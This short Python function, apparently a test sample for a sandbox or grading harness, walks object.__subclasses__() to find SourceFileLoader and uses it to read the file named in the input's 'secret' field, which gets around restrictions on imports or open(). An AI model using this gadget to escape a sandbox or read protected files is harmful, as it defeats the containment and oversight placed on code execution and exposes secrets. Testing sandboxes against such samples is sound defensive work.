"""Finds the class that loads files below all classes, and reads one with it."""
# wants: read

def fit_and_eval(data):
    todo = object.__subclasses__()
    while todo:
        cls = todo.pop()
        if cls.__name__ == "SourceFileLoader":
            return {"got": cls("m", data["secret"]).get_data(data["secret"]).decode()}
        if not issubclass(cls, type):
            todo.extend(type.__subclasses__(cls))
    return {}
